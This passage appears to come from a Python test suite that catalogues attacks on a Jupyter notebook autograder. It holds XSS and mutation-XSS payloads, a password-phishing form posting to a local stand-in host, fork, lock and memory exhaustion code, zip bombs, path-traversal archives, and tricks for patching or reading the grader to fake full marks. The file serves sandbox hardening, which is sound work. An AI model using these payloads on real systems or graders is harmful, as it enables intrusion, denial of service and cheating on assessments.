            0,
            nbformat.v4.new_markdown_cell(
                "![a](attachment:a.png)", attachments={"a.png": {'image/png" onerror="alert(1)': "AAAA"}}
            ),
        )
    ),
    "script in the notebook's metadata": Attack(
        damage=lambda n: n.metadata.update(
            title=SCRIPT, authors=[{"name": SCRIPT}], language_info={"name": SCRIPT, "pygments_lexer": SCRIPT}
        )
    ),
    "script in comments of code": Attack(adam=WRONG + f"# {SCRIPT}\n"),
    "a formula that is a link": Attack(
        damage=lambda n: n.cells.insert(0, nbformat.v4.new_markdown_cell(r"$\href{javascript:alert(1)}{x}$"))
    ),
}

# Time and memory of those who look, outside of the sandbox: each of these took minutes or hours


def markdown(*texts: str) -> Callable[[NotebookNode], Any]:
    return lambda n: [n.cells.insert(0, nbformat.v4.new_markdown_cell(text)) for text in texts]


def html(text: str) -> str:
    return f"{WRONG}\nfrom IPython.display import HTML, display\ndisplay(HTML({text}))\n"


ATTACKS |= {
    "commands without end": Attack(first="if False:\n" + "    !true\n" * 3_000 + "    pass"),
    "commands in a long cell": Attack(first="if False:\n" + "    %time\n" * 25 + "\n" * 49_000 + "    pass"),
    "Markdown that takes hours": Attack(
        damage=markdown("_a**b" * 60_000, "[a](" * 70_000, "$" * 300_000, "\\begin{a}" * 2_000)
    ),
    "HTML that is nested deeply": Attack(adam=html("'<b>' * 500_000")),
    "HTML with closing tags of nothing": Attack(adam=html("'<a><b></x></x>' * 50_000")),
    "HTML of a million attributes": Attack(
        adam=html("'<b ' + ' '.join(f'a{n}' for n in range(300_000)) + '>'")
    ),
    "text in a million colours": Attack(adam=WRONG + "\nprint('\\x1b[31ma\\x1b[32mb' * 60_000)"),
    "a line of code that takes long to colour": Attack(
        last="# " + "x" * 10 + "\n0 if True else " + "a." * 50_000 + "b"
    ),
    "script by way of MathJax's tokens": Attack(
        damage=markdown('$\\mmlToken{mi}[href="javascript:alert(1)"]{x}$', "$\\style_{a}{b}$")
    ),
    "script and pictures from elsewhere": Attack(
        damage=markdown(
            "![a](http://127.0.0.1:PORT/seen.png)",
            "![a][b]\n\n[b]: http://127.0.0.1:PORT/seen.png",
            "![attachment:a](/logout) [![a](//127.0.0.1:PORT/x)](http://a.example)",
        )
    ),
    "a file name that is script and escapes": Attack(
        place=lambda folder: (folder / f"{UNIT}.ipynb").rename(
            folder / "\x1b]0;GAINED\x07<img src=x onerror=alert(1)>![a](http:a).ipynb"
        )
    ),
    "evidence without numbers": Attack(
        adam=WRONG
        + """
import course_lib.judging.probe as probing, sys
def fake(student, cases, seconds=None):
    nothing = {"returned": {"dtype": "float64", "shape": [10**9, 0, 3], "data": []}, "heard": [[1, 2]], "made": True}
    return {"cases": [[nothing] * 10_000] * 1_000, "signature": {"lr": {"float": "nan"}}, "positions": [None, {}]}
for module in list(sys.modules.values()):
    if getattr(module, "probe", None) is probing.probe:
        module.probe = fake
""",
        points=(None, None, 0.0, 0.0),
    ),
}

# The doors beside the limits: memory and other things of the kernel's that belong to no process


def calls(text: str) -> str:
    """Beside a wrong Adam, Python that says GAINED of each expression, a line, that is refused nothing."""
    return f"""{WRONG}
import ctypes, fcntl, mmap, os, platform, resource, socket, struct, termios
libc = ctypes.CDLL(None, use_errno=True)
x86 = platform.machine() == "x86_64"
for attempt in {text.strip().splitlines()!r}:
    try:
        answer = eval(attempt)
    except (OSError, ValueError, OverflowError):
        continue
    if answer is None or type(answer) is not int or answer >= 0:
        print("GAINED", attempt)
"""


ATTACKS |= {
    "memory that is shared without a file": Attack(
        adam=calls("""
mmap.mmap(-1, 2**20)
libc.mmap(None, 2**20, 3, 0x21, -1, 0) + 1 or -1
libc.mmap(None, 2**20, 3, 0x23, -1, 0) + 1 or -1
mmap.mmap(os.open("/dev/zero", os.O_RDWR), 2**20)
os.memfd_create("m")
libc.memfd_secret(0)
libc.shmget(0, 2**20, 0o1600)
""").replace("libc.memfd_secret(0)", "libc.syscall(447, 0)")
    ),
    "memory given to a pipe": Attack(
        adam=calls("""
libc.vmsplice(os.pipe()[1], struct.pack("PN", id(struct), 4096), 1, 8)
libc.tee(os.pipe()[0], os.pipe()[1], 4096, 0)
fcntl.fcntl(os.pipe()[1], 1031, 2**20)
socket.socketpair()[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
socket.socketpair()[0].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2**24)
""")
    ),
    "memory that leaves the page table": Attack(
        adam=WRONG
        + """
import ctypes, os, time
libc = ctypes.CDLL(None)
for n in range(5):
    if os.fork() == 0:
        kept = bytearray(300 * 2**20)
        kept[::4096] = bytes(len(kept[::4096]))
        where = (ctypes.c_char * len(kept)).from_buffer(kept)
        libc.madvise(ctypes.c_void_p(ctypes.addressof(where) & ~4095), ctypes.c_size_t(len(kept) - 4096), 21)
        time.sleep(20)
        os._exit(0)
time.sleep(20)
""",
        why="more memory|could not be interrupted|KeyboardInterrupt",
    ),
    "memory of files that are deleted": Attack(
        adam=WRONG
        + """
import mmap, os
kept = []
try:
    for n in range(12):
        with open("/tmp/gone", "w+b") as file:
            for part in range(30):
                file.write(bytes(2**20))
            file.flush()
            kept.append(mmap.mmap(file.fileno(), 0))
        os.unlink("/tmp/gone")
    print("GAINED")
except OSError:
    kept.clear()
""",
    ),
    "memory in sockets of many processes": Attack(
        adam=WRONG
        + """
import os, socket, time
for n in range(40):
    if os.fork() == 0:
        kept = []
        try:
            while True:
                pair = socket.socketpair()
                pair[0].setblocking(False)
                kept += pair
        except OSError:
            time.sleep(20)
        os._exit(0)
time.sleep(20)
""",
        why="more memory|KeyboardInterrupt",
    ),
    "memory in attributes of files": Attack(
        adam=calls("""
os.setxattr(".", "user.a", bytes(60_000))
os.setxattr("/tmp", "trusted.a", b"x")
libc.keyctl(1, 0, 0, 0, 0) if hasattr(libc, "keyctl") else -1
libc.syscall(248 if x86 else 217, b"user", b"a", b"b", 1, -2)
""")
    ),
    "locks on files without end": Attack(
        adam=WRONG
        + """
import fcntl, time
with open("/tmp/locked", "wb") as file:
    for n in range(300_000):
        fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * n)
    print("GAINED")
""",
        why="more locks on files",
    ),
    "locks of no process": Attack(
        adam=calls("""
fcntl.fcntl(os.open("/tmp/locked", os.O_RDWR | os.O_CREAT), 37, struct.pack("hhqqi", 1, 0, 0, 1, 0))
fcntl.fcntl(os.open("/tmp/locked", os.O_RDWR | os.O_CREAT), 38, struct.pack("hhqqi", 1, 0, 0, 1, 0))
fcntl.fcntl(os.open("/tmp/locked", os.O_RDONLY | os.O_CREAT), fcntl.F_SETLEASE, fcntl.F_RDLCK)
fcntl.fcntl(os.open("/tmp", os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_CREATE)
""")
    ),
    "locks of many processes": Attack(
        adam=WRONG
        + """
import fcntl, os, time
for process in range(20):
    if os.fork() == 0:
        with open(f"/tmp/locked-{process}", "wb") as file:
            for n in range(20_000):
                fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * n)
            time.sleep(20)
        os._exit(0)
time.sleep(20)
""",
        why="more locks on files|KeyboardInterrupt",
    ),
    "terminals without end": Attack(
        adam=WRONG
        + "\nimport os\nkept = 0\ntry:\n    while kept < 100:\n        os.openpty()\n        kept += 1\n"
        "    print('GAINED')\nexcept OSError:\n    pass\nos.closerange(10, 120)"
    ),
    "typing into a terminal": Attack(
        adam=calls("""
fcntl.ioctl(os.openpty()[1], termios.TIOCSTI, b"x")
fcntl.ioctl(os.openpty()[1], 0x541C, b"x")
os.open("/dev/tty", os.O_RDWR)
os.open("/dev/console", os.O_RDWR)
""")
    ),
    "watches on files without end": Attack(
        adam=calls("""
libc.inotify_init()
libc.inotify_init1(0)
libc.fanotify_init(0, 0)
libc.syscall(206 if x86 else 0, 1000, ctypes.byref(ctypes.c_long()))
""")
    ),
    "the kernel's other doors": Attack(
        adam=calls("""
libc.syscall(321 if x86 else 280, 0, 0, 0)
libc.syscall(298 if x86 else 241, ctypes.create_string_buffer(120), 0, -1, -1, 0)
libc.syscall(323 if x86 else 282, 1)
libc.syscall(425, 8, ctypes.create_string_buffer(120))
libc.syscall(317 if x86 else 277, 2, 0, 0)
libc.syscall(310 if x86 else 270, os.getpid(), 0, 0, 0, 0, 0)
libc.syscall(438, 0, 0, 0)
libc.syscall(312 if x86 else 272, os.getpid(), os.getpid(), 0, 0, 0)
libc.personality(0x0040000)
libc.syscall(153 if x86 else 58)
""")
    ),
    "calls that nobody knows yet": Attack(
        adam=calls("\n".join(f"libc.syscall({number}, 0, 0, 0)" for number in (452, 470, 600, 1023, 5000)))
    ),
    "calls by another architecture's numbers": Attack(
        adam=WRONG
        + """
import ctypes, mmap, os, platform
if platform.machine() == "x86_64":
    libc = ctypes.CDLL(None)
    if libc.syscall(ctypes.c_long(0x40000000 + 39)) > 0:  # getpid in x32
        print("GAINED")
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE, prot=7)
    page.write(b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3")  # getpid in 32 bits
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if call() > 0:
        print("GAINED")
"""
    ),
    "a namespace by the newer clone": Attack(
        adam=calls("""
libc.syscall(435, struct.pack("QQQQQQQQ", 0x10000000, 0, 0, 0, 17, 0, 0, 0), 64)
libc.syscall(56 if x86 else 220, 0x10000000 | 17, 0, 0, 0, 0)
libc.syscall(428, -100, b"/", 1)
libc.syscall(430, b"tmpfs", 0)
libc.syscall(442, -100, b"/", 0, 0, 0)
libc.pivot_root(b"/tmp", b"/tmp") if hasattr(libc, "pivot_root") else -1
""")
    ),
    "limits raised": Attack(
        adam=calls("""
resource.setrlimit(resource.RLIMIT_AS, (2**34, 2**34))
resource.setrlimit(resource.RLIMIT_CPU, (10**6, 10**6))
resource.setrlimit(resource.RLIMIT_NPROC, (10**4, 10**4))
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
os.nice(-5)
os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
os.write(os.open("/proc/self/oom_score_adj", os.O_WRONLY), b"-1000")
""")
    ),
    "the groups of the kernel's accounting written to": Attack(
        adam=WRONG
        + """
import os
for top, folders, files in os.walk("/sys"):
    for name in [*folders, *files]:
        if os.access(os.path.join(top, name), os.W_OK):
            print("GAINED", top, name)
"""
    ),
}

# Time

ATTACKS |= {
    "marks of cells that are to come": Attack(
        adam=WRONG
        + """
import os, struct, time
for number in range(200):
    for pipe in range(3, 20):
        try:
            os.write(pipe, struct.pack("<i", number))
        except OSError:
            pass
    time.sleep(0.1)
""",
        why="where only grading writes",
    ),
    "the mark of the end": Attack(
        adam=WRONG
        + """
import os, struct
for pipe in range(3, 20):
    try:
        os.write(pipe, struct.pack("<i", 2**31 - 1))
    except OSError:
        pass
os._exit(0)
""",
        why="where only grading writes",
    ),
    "half a mark": Attack(
        adam=WRONG
        + """
import os, time
for pipe in range(3, 20):
    try:
        os.write(pipe, b"abc")
    except OSError:
        pass
time.sleep(2)
""",
        why="where only grading writes",
    ),
    "all pipes closed": Attack(
        adam=WRONG + "\nimport os\nos.closerange(3, 256)",
        points=(None, None, 0.0, 0.0),
        why="ended the kernel",
    ),
    "what is sent is filtered": Attack(
        adam=WRONG
        + """
import os
real = os.write
def write(descriptor, data):
    return len(data) if b"adam" in bytes(data) or len(data) == 4 else real(descriptor, data)
os.write = write
""",
        points=(None, None, 0.0, 0.0),
    ),
    "children that nobody waits for": Attack(
        adam=WRONG
        + """
import os, signal, time
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
for n in range(2000):
    try:
        if os.fork() == 0:
            while time.process_time() < 0.5:
                pass
            os._exit(0)
    except OSError:
        time.sleep(0.05)
""",
        why="computing time|could not be interrupted|more processes|KeyboardInterrupt",
    ),
    "a crowd that waits for a core": Attack(
        adam=WRONG
        + """
import os, time
for n in range(50):
    if os.fork() == 0:
        while True:
            pass
time.sleep(100)
""",
        why="KeyboardInterrupt|computing time|could not be interrupted",
    ),
    "the count of what was waited reset": Attack(
        adam=method(
            "import os, time\nend = time.time() + 60\nwhile time.time() < end:\n    pass\nreturn theta",
            "import builtins\nreal = open\n"
            "def fake(name, *a, **k):\n"
            "    return real('/proc/self/stat' if name == '/proc/self/schedstat' else name, *a, **k)\n"
            "builtins.open = fake",
        ),
        why="still running when the time was up|time for the whole notebook|could not be interrupted",
    ),
}

# What the judge knows

ATTACKS |= {
    "the case read for what its judge knows": Attack(
        adam="""
import sys
class Adam:
    def __init__(self, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr = lr

    def step(self, theta, gradient):
        frame = sys._getframe()
        while frame is not None:
            for value in frame.f_locals.values():
                known = value if type(value) is dict else getattr(value, "__dict__", {})
                told = {"known", "withheld", "name", "observe", "cause", "runs", "shown", "keeps_arguments", "expected"}
                if "calls" in known and told & set(known):
                    print("GAINED")
            frame = frame.f_back
        return theta - self.lr * gradient
""",
    ),
    "the heap read for what the judge knows": Attack(
        adam=WRONG
        + """
import gc
for found in gc.get_objects():
    if type(found).__name__ in ("Known", "Case", "Exercise", "Misconception", "Answers"):
        if type(found).__module__.startswith("course_lib"):
            print("GAINED")
    if type(found) is dict and "calls" in found and {"name", "observe"} & found.keys():
        print("GAINED")
""",
    ),
    "a seed small enough to try": Attack(
        adam=WRONG
        + """
import sys
frame = sys._getframe()
while frame is not None:
    for value in list(frame.f_locals.values()):
        seed = value.get("seed") if type(value) is dict else None
        if type(seed) is int and seed.bit_length() < 90:
            print("GAINED")
    frame = frame.f_back
""",
    ),
    "the judge's modules imported": Attack(
        adam=WRONG
        + """
import importlib
for name in ("cases", "exercise", "verdict", "findings", "diagnosis", "observing", "edits"):
    try:
        importlib.import_module(f"course_lib.judging.{name}")
        print("GAINED", name)
    except ImportError:
        pass
"""
    ),
    "lines without end that are no evidence": Attack(
        adam=WRONG
        + """
import os
for pipe in range(3, 20):
    for n in range(60):
        try:
            os.write(pipe, b"{}\\n" * 20_000)
        except OSError:
            break
""",
        points=(None, None, 0.0, 0.0),
    ),
}

# Texts and files that stop who reads them


def attached(attachments: Any) -> Callable[[NotebookNode], Any]:
    """In a cell that is otherwise as it was released, and in one of the student's own."""

    def damage(notebook: NotebookNode) -> None:
        plain = next(c for c in notebook.cells if c.cell_type == "markdown" and "nbgrader" not in c.metadata)
        plain["attachments"] = attachments
        own = nbformat.v4.new_markdown_cell("![a](attachment:fig.png)")
        own["attachments"] = attachments
        notebook.cells.insert(0, own)

    return damage


ATTACKS |= {
    "an attachment whose name cannot be written": Attack(damage=attached({"\ud800": {"image/png": "AAAA"}})),
    "an attachment whose content cannot be written": Attack(
        damage=attached({"fig.png": {"image/png": "\udfff" * 10, "\ud800/\udfff": "x"}})
    ),
    "attachments of another shape": Attack(
        damage=attached({"fig.png": 5, "a": [1], "b": {"image/png": {"x": 1}}})
    ),
    "attachments that are a list": Attack(damage=attached([1, {"fig.png": None}])),
    "attachments nested deeply": Attack(
        damage=attached({"fig.png": json.loads('{"image/png":' * 200 + "1" + "}" * 200)})
    ),
    "an attachment of many megabytes": Attack(damage=attached({"fig.png": {"image/png": "A" * 6_000_000}})),
    "an attachment that is script": Attack(
        damage=attached({"fig.png": {"text/html": "PHNjcmlwdD4=", "image/svg+xml": "<svg onload=alert(1)>"}})
    ),
    "an attachment with a quote in its type": Attack(
        damage=attached({"fig.png": {'image/png;base64,x" onerror="alert(1)': "AAAA"}})
    ),
    "a cell's text that cannot be written": Attack(
        damage=lambda n: [
            n.cells.insert(0, nbformat.v4.new_markdown_cell("\ud800 \udc00 $\udfff$")),
            n.cells.insert(0, nbformat.v4.new_raw_cell("\ud800")),
            n.cells.insert(0, nbformat.v4.new_code_cell("'\udfff'  # \ud800")),
        ]
    ),
    "metadata that cannot be written": Attack(
        damage=lambda n: [
            n.metadata.update(
                {"\ud800": "\udfff", "kernelspec": {"name": "\ud800", "display_name": "\udfff"}}
            ),
            n.cells[0].metadata.update({"tags": ["\ud800"], "\udfff": 1}),
        ]
    ),
    "values that cannot be written": Attack(
        adam=WRONG
        + """
from IPython.display import HTML, Latex, Markdown, display
for kind in (HTML, Latex, Markdown):
    display(kind("\\ud800<b>\\udfff</b>"))
display({"text/plain": "\\ud800", "\\udfff/x": "\\ud800", "application/json": {"\\ud800": 1}}, raw=True)
raise type("\\ud800", (Exception,), {})("\\udfff")
"""
    ),
    "empty lines without end": Attack(first="if False:" + "\n" * 49_900 + "    pass"),
    "empty lines with spaces without end": Attack(first="if False:\n" + " \t\n" * 16_000 + "    pass"),
    "commands by their other signs": Attack(
        first="if False:\n" + "    ,a b\n    ;a b\n    /a b\n" * 1_500 + "    pass"
    ),
    "questions without end": Attack(first="if False:\n" + "    a?\n" * 3_000 + "    pass"),
    "an old format that swells": Attack(
        place=lambda folder: _content(
            folder,
            b'{"nbformat": 3, "nbformat_minor": 0, "metadata": {"x": ['
            + b"{}," * 1_500_000
            + b'{}]}, "worksheets": [{"cells": [], "metadata": {}}]}',
        ),
        points=(0.0, 0.0, 0.0, 0.0),
    ),
    "an old format of many cells": Attack(
        place=lambda folder: _content(
            folder,
            b'{"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"metadata": {}, "cells": ['
            + b'{"cell_type":"markdown","metadata":{},"source":[]},' * 80_000
            + b'{"cell_type":"markdown","metadata":{},"source":[]}]}]}',
        ),
        points=(0.0, 0.0, 0.0, 0.0),
    ),
    "a format of the future": Attack(damage=lambda n: n.update(nbformat=99, nbformat_minor=99)),
    "an archive that swells": Attack(
        place=lambda folder: _zip(folder, {"big.ipynb": b"[" * 150_000_000}), points=(0.0,) * 4
    ),
    "archives within archives": Attack(
        place=lambda folder: _zip(folder, {"a.zip": _deep_zip(30)}), points=(0.0,) * 4
    ),
    "an archive whose paths lead out": Attack(
        place=lambda folder: _zip(
            folder,
            dict.fromkeys(
                ("../../pwned", "/tmp/pwned", "..\\..\\pwned", "C:\\pwned", "a/../../../pwned"), b"GAINED"
            )
            | {f"../../honest-1/{UNIT}/{UNIT}.ipynb": b"{}", "../../../gradebook.db": b"x"},
        ),
        points=(0.0,) * 4,
    ),
    "an archive of many thousand files": Attack(
        place=lambda folder: _zip(folder, {f"{n}.ipynb": b"{}" for n in range(30_000)}), points=(0.0,) * 4
    ),
    "an archive with links": Attack(place=lambda folder: _zip_with_link(folder), points=(0.0,) * 4),
    "very many candidates": Attack(
        place=lambda folder: [(folder / f"{UNIT} ({n}).ipynb").write_bytes(b"{}") for n in range(400)]
    ),
}

# Pages that swell, cover, ask or fetch


def shown(*texts: str) -> str:
    """Beside a wrong Adam, these as HTML."""
    return f"{WRONG}\nfrom IPython.display import HTML, display\nfor text in {texts!r}:\n    display(HTML(text))\n"


ATTACKS |= {
    "HTML that swells by what is left open": Attack(
        adam=html("'<p></x>' + 500 * '<b title=\"0123456789012345\"></x>' + 500 * '<p></x>a'")
    ),
    "HTML that swells by lists and fonts": Attack(
        adam=html("'<font size=7 color=\"#ffffff\"><i><u><s><em>' * 200 + '<li><p>' * 600")
    ),
    "HTML that swells by tables": Attack(
        adam=html("'<a href=\"http://a.example/' + 'x' * 900 + '\"><table>' * 90")
    ),
    "HTML that swells by entities": Attack(adam=html("'&lt;' * 20_000 + '\"' * 30_000 + '&' * 30_000")),
    "outputs by the hundred": Attack(
        adam=WRONG
        + "\nfrom IPython.display import HTML, display\nfor n in range(80):\n    display(HTML('<b>' + '&' * 90_000 + '</b>'))\n"
    ),
    "text that swells by escapes": Attack(
        adam=WRONG + "\nfor n in range(60):\n    print('<&>\"' * 24_000)\n    display(n)"
    ),
    "errors that swell": Attack(
        adam=WRONG + "\nraise ValueError('<&>' * 400_000)",
    ),
    "a picture of many megabytes": Attack(
        adam=WRONG
        + "\nfrom IPython.display import display\ndisplay({'image/png': 'A' * 7_000_000}, raw=True)"
    ),
    "pictures by the dozen": Attack(
        adam=WRONG
        + "\nfrom IPython.display import display\nfor n in range(15):\n    display({'image/png': 'A' * 500_000}, raw=True)"
    ),
    "widgets with a state": Attack(
        adam=WRONG
        + """
from IPython.display import display
import ipywidgets
display(ipywidgets.HTML("<img src=x onerror=alert(1)>"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2, "version_minor": 0}}, raw=True)
""",
        damage=lambda n: n.metadata.update(
            widgets={
                "application/vnd.jupyter.widget-state+json": {
                    "state": {"a": {"model_name": "HTMLModel", "state": {"value": SCRIPT}}},
                    "version_major": 2,
                }
            }
        ),
    ),
    "MathJax's macros by entities": Attack(
        damage=markdown(
            r"&dollar;&bsol;def&bsol;x#1{&bsol;href{java#1}{CLICK}}&bsol;x{script:alert(1)}&dollar;",
            r"&#36;&#92;href{javascript:alert(1)}{x}&#36;",
            r"&#x24;&#x5c;style{color:red}{x}&#x24;",
            r"$&bsol;href{javascript:alert(1)}{x}$",
            "$$&bsol;cssId{a}{&bsol;class{b}{x}}$$",
        )
    ),
    "MathJax's macros by entities in HTML": Attack(
        adam=shown(
            r"$&#92;href{javascript:alert(1)}{x}$",
            r"&dollar;&bsol;href{javascript:alert(1)}{x}&dollar;",
            r"<p>$</p>&#92;href<b>{javascript:alert(1)}</b>{x}$",
            r"$<!-- -->\href{javascript:alert(1)}{x}$",
        )
    ),
    "MathJax's macros in other outputs": Attack(
        adam=WRONG
        + r"""
from IPython.display import Latex, Math, Markdown, display
display(Math(r"\href{javascript:alert(1)}{x}"), Latex(r"$\def\a{\href}\a{javascript:alert(1)}{x}$"))
display(Markdown(r"$\let\b\href \b{javascript:alert(1)}{x}$"), Markdown("\\begin{equation}\\require{html}\\end{equation}"))
"""
    ),
    "links by entities and odd letters": Attack(
        damage=markdown(
            "[a](java&Tab;script:alert(1)) [b](&#106;avascript&colon;alert(1)) [c](JaVaScRiPt:alert(1))",
            "<javascript:alert(1)> [d]: javascript:alert(1)\n\n[d]\n\n[d]: javascript:alert(1)",
            "[e](data:text/html;base64,PHNjcmlwdD4=) [f](vbscript:x) [g](\x01javascript:alert(1))",
            "![h](javascript:alert(1)) ![i](data:image/svg+xml;base64,PHN2Zz4=)",
        )
    ),
    "a page that covers the page": Attack(
        adam=shown(
            "<style>* { display: none }</style><link rel=stylesheet href=http://127.0.0.1:PORT/x>",
            "<div style='position: fixed; inset: 0; background: white'>100 of 100</div>",
            "<div class='score' id='toc'>a</div><a name=x id=y href='#'>a</a>",
            "<table background=http://127.0.0.1:PORT/y><tr><td>a",
        )
    ),
    "a form that asks for a password": Attack(
        adam=shown(
            "<form action=http://127.0.0.1:PORT/><input name=password type=password><button>Log in</button></form>",
            "<button formaction=javascript:alert(1)>a</button><input autofocus onfocus=alert(1)>",
            "<isindex action=javascript:alert(1)><keygen autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)><summary>a</summary></details>",
        )
    ),
    "a page that leads elsewhere": Attack(
        adam=shown(
            "<meta http-equiv=refresh content='0; url=http://127.0.0.1:PORT/'>",
            "<base href=http://127.0.0.1:PORT/><a href=x target=_top>a</a>",
            "<iframe src=http://127.0.0.1:PORT/ srcdoc='<script>alert(1)</script>'></iframe>",
            "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
            "<audio src=http://127.0.0.1:PORT/a autoplay></audio><video poster=http://127.0.0.1:PORT/b></video>",
            "<picture><source srcset=http://127.0.0.1:PORT/c><img srcset=http://127.0.0.1:PORT/d></picture>",
        )
    ),
    "HTML that changes when it is read twice": Attack(
        adam=shown(
            '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
            '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<!--><img src=x onerror=alert(1)>--><![CDATA[><img src=x onerror=alert(1)>]]>",
            "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
            "<template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp>",
            "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/><foreignObject><script>alert(1)",
            "<math href=javascript:alert(1)>CLICK</math><svg><a xlink:href=javascript:alert(1)><text>x",
        )
    ),
    "HTML in Markdown that changes when it is read": Attack(
        damage=markdown(
            '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
            "a <b\n\nonmouseover=alert(1)>b</b> <img\n src=x\n onerror=alert(1)>",
            "```html\n</code></pre><script>alert(1)</script>\n```",
            "`</code><script>alert(1)</script>`\n\n|a|\n|-|\n|<img src=x onerror=alert(1)>|",
            "[a]: <javascript:alert(1)> \"'onmouseover='alert(1)\"\n\n[a] ![b](x 'y\" onerror=\"alert(1)')",
        )
    ),
    "a name of a language that is script": Attack(
        damage=lambda n: n.metadata.update(
            language_info={"name": "x'><script>alert(1)</script>", "codemirror_mode": {"name": SCRIPT}}
        )
    ),
    "letters that turn the text": Attack(
        adam=WRONG + "\nprint('\\u202e\\u2066 100 \\u2069 \\x1b]0;title\\x07 \\x9b31m \\x00')\n",
    ),
    "colours that swell": Attack(
        adam=WRONG + "\nfor n in range(40):\n    print('\\x1b[38;2;1;2;3ma' * 9_000)\n    display(n)",
    ),
}


# What they do without a sandbox, where that is harmless. Those in `Attack.fools` are shown by grading itself.
#
#     gained      GAINED is printed, by the attack or by what LOOKS behind it
#     full        nbgrader reads the full points for Adam from the graded cell
#     dies        the kernel dies
#     hangs       it goes on when it is interrupted
#     floods      more comes than a page can hold
#     strange     formgrader's page of what it did runs something, or fetches something
#     slow        formgrader's page does not get done
#     unreadable  nbgrader cannot read what was handed in, or not in bounded time and memory
#     borrowed    what nbgrader reads is another's

WITHOUT: dict[str, str] = {
    name: what
    for what, names in {
        "gained": (
            "an object with a __reduce__",
            "values of the public cases by heart",
            "the heap read for answers",
            "the probe watched with settrace",
            "the reference imported",
            "the reference looked for on disk",
            "the misconceptions imported",
            "the instructor's solution read",
            "another framework's Adam",
            "another student's work read",
            "another student's work looked for",
            "numpy.py beside the notebook",
            "sitecustomize.py beside the notebook",
            "course_lib beside the notebook",
            "a link to a secret",
            "a link to all other work",
            "signals to parents",
            "a bomb of threads",
            "all descriptors used",
            "a daemon that stays",
            "the course written to",
            "the gradebook updated",
            "the network",
            "sockets of all kinds",
            "the parent's memory and secrets",
            "the namespace left",
            "the library of all runs changed",
            "shared memory left behind",
        ),
        "full": (
            "check redefined",
            "check redefined beside the solution",
            "check patched in its module",
            "the checks' module replaced",
            "the probe replaced",
            "frames read for answers",
            "input transformers emptied",
            "run_cell replaced",
            "do_execute replaced",
            "a syntax tree rewritten",
            "hooks before and after each cell",
            "errors never shown",
            "the check changed and unlocked",
        ),
        "dies": (
            "os._exit in a cell",
            "os._exit beside the solution",
            "exit in a cell",
        ),
        "hangs": (
            "a loop that ignores interrupts",
            "a loop in a step that ignores interrupts",
            "a stop to oneself",
        ),
        "floods": (
            "an error whose text never ends",
            "a flood of output",
            "a flood of output past Python",
            "one line of 40 MB",
            "a flood from a step",
        ),
        "strange": (
            "script in outputs",
            "script in Markdown",
            "a formula that is a link",
            "script by way of MathJax's tokens",
            "script and pictures from elsewhere",
        ),
        "slow": (
            "commands without end",
            "commands in a long cell",
            "Markdown that takes hours",
            "HTML that is nested deeply",
            "HTML with closing tags of nothing",
            "text in a million colours",
            "a line of code that takes long to colour",
            "a picture that is not attached",
        ),
        "unreadable": (
            "the notebook is a pipe",
            "the notebook is a device",
            "the notebook is sparse",
            "no valid JSON",
            "JSON that is nested deeply",
            "JSON of 30 MB",
            "numbers of a million digits",
            "a timestamp that is none",
            "a schema version of the future",
            "metadata of another shape",
            "another kernel asked for",
            "the check doubled",
        ),
        "borrowed": ("the notebook is a link to another's",),
    }.items()
    for name in names
}
STEP = "Adam().step(np.ones(3), np.ones(3))"
LOOKS = {
    "an object with a __reduce__": f"""
import os, pickle
pickle.loads(pickle.dumps({STEP}))
if os.path.exists("COURSE/pwned"):
    print("GAINED")
""",
    "the probe watched with settrace": "check('adam', Adam)",
    "a loop in a step that ignores interrupts": STEP,
    "an error whose text never ends": STEP,
    "a flood from a step": STEP,
    "a daemon that stays": """
import os, signal, time
time.sleep(0.2)
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if b"sleep 600; : COOKIE" in open(f"/proc/{pid}/cmdline", "rb").read():
            os.killpg(int(pid), signal.SIGKILL)
            print("GAINED")
    except OSError:
        pass
""",
    "shared memory left behind": """
import ctypes, os, zlib
key = zlib.crc32(b"COOKIE") & 0x7FFFFFFF
segment = ctypes.CDLL(None).shmget(key, 0, 0)
if segment >= 0 and str(key) in open("/proc/sysvipc/shm").read() and os.path.exists("/dev/shm/COOKIE"):
    print("GAINED")
ctypes.CDLL(None).shmctl(segment, 0, None)
os.unlink("/dev/shm/COOKIE")
""",
}

_OWN_CELL = "points come from the graded cell alone, and what is in it comes from the release"
_NO_HARM = "it would do harm"
_ESCAPED = "this nbconvert escapes it too"
_ROBUST = "the check itself is not taken in, wherever it runs: its probe sends what it can say in numbers"
UNSHOWN = {
    "evidence that calls itself right": "no verdict is read from evidence, wherever it is judged",
    "evidence written to every descriptor": "a plain kernel sends no evidence",
    "evidence without numbers": "a plain kernel sends no evidence",
    "a report displayed": _OWN_CELL,
    "numbers as last values": _OWN_CELL,
    "a display updated to a number": _OWN_CELL,
    "a type with a name of HTML": _ROBUST,
    "an error that speaks HTML": _ROBUST,
    "history read for answers": "nothing with an answer in it is run before it",
    "the display hook replaced": "a check that fails shows no value, and the error costs all points",
    "the standard library beside the notebook": "IPython looks there before it looks beside the notebook",
